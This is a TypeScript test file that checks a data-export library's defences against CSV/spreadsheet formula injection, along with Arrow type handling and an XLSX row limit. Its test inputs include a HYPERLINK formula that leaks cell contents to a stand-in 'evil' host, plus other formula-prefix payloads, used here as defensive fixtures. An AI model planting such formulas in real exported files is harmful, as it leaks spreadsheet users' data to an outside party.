/**
 * Text exports are spreadsheet-safe (OWASP CSV injection): text cells that start with = + - @, a
 * tab or a CR get a leading apostrophe and quotes; numbers stay numbers; `raw` writes them as
 * they are. Arrow columns of every kind are written exactly; the XLSX limit is refused up front.
 */
import { describe, expect, test } from 'vitest';
import { tableFromArrays, tableFromIPC, tableToIPC } from 'apache-arrow';
import { csvParseRows } from 'd3';
import { writeCsv } from '../../../src/lib/export/csv-writer';
import { writeJson } from '../../../src/lib/export/json-writer';
import { assertFits, XLSX_MAX_ROWS } from '../../../src/lib/export/formats';
import { defuseText } from '../../../src/lib/export/text-cells';

const HOSTILE = [
	'=HYPERLINK("http://evil/?leak="&A2,"click")',
	'+1+1',
	'-2+3',
	'@SUM(A1)',
	'\tTAB',
	'\rCR',
	'plain, with "quotes"',
	'杭州'
];

const table = () =>
	tableFromIPC(
		tableToIPC(
			tableFromArrays({
				text: HOSTILE,
				n: Float64Array.from([-5, 1.5, 0, 2, 3, 4, 5, 6]),
				k: Int32Array.from([-1, 2, 3, 4, 5, 6, 7, 8])
			}),
			'stream'
		)
	);

const decode = (b: Uint8Array) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(b);

describe('CSV', () => {
	test('safe by default: formulas defused, numbers untouched, and it parses back', () => {
		const csv = decode(writeCsv(table()));
		expect(csv.charCodeAt(0)).toBe(0xfeff);
		const rows = csvParseRows(csv.slice(1).trimEnd());
		expect(rows[0]).toEqual(['text', 'n', 'k']);
		expect(rows.slice(1).map((r) => r[0])).toEqual(HOSTILE.map(defuseText));
		expect(rows[1]![0]).toBe(`'=HYPERLINK("http://evil/?leak="&A2,"click")`);
		expect(rows.slice(1).map((r) => r[1])).toEqual(['-5', '1.5', '0', '2', '3', '4', '5', '6']);
		expect(rows[1]![2]).toBe('-1');
		// No cell of the file starts a formula, once parsed as a spreadsheet would.
		for (const r of rows.slice(1)) expect(r[0]).not.toMatch(/^[=+\-@\t\r]/);
	});

	test('raw for machines: the text exactly as it is', () => {
		const rows = csvParseRows(decode(writeCsv(table(), 'raw')).slice(1).trimEnd());
		expect(rows.slice(1).map((r) => r[0])).toEqual(HOSTILE);
	});

	test('dates, nulls, dictionary strings and booleans from Arrow', () => {
		const t = tableFromIPC(
			tableToIPC(
				tableFromArrays({
					d: [new Date(Date.UTC(2021, 2, 1)), null],
					s: ['a', null],
					b: [true, false]
				}),
				'stream'
			)
		);
		const rows = csvParseRows(decode(writeCsv(t)).slice(1).trimEnd());
		expect(rows[1]![0]).toMatch(/^2021-03-01/);
		expect(rows[2]).toEqual(['', '', 'false']);
	});
});

describe('JSON', () => {
	test('the same rule, valid JSON, exact values', () => {
		const parsed = JSON.parse(decode(writeJson(table(), { p: 1 })));
		expect(parsed.provenance).toEqual({ p: 1 });
		expect(parsed.rows.map((r: { text: string }) => r.text)).toEqual(HOSTILE.map(defuseText));
		expect(parsed.rows[0]).toMatchObject({ n: -5, k: -1 });
		const raw = JSON.parse(decode(writeJson(table(), {}, 'raw')));
		expect(raw.rows.map((r: { text: string }) => r.text)).toEqual(HOSTILE);
	});
});

test('XLSX over its row limit is refused before any work', () => {
	expect(() => assertFits('xlsx', XLSX_MAX_ROWS)).toThrow(/xlsx-too-many-rows/);
	expect(() => assertFits('xlsx', XLSX_MAX_ROWS - 1)).not.toThrow();
	expect(() => assertFits('csv', 10 * XLSX_MAX_ROWS)).not.toThrow();
});
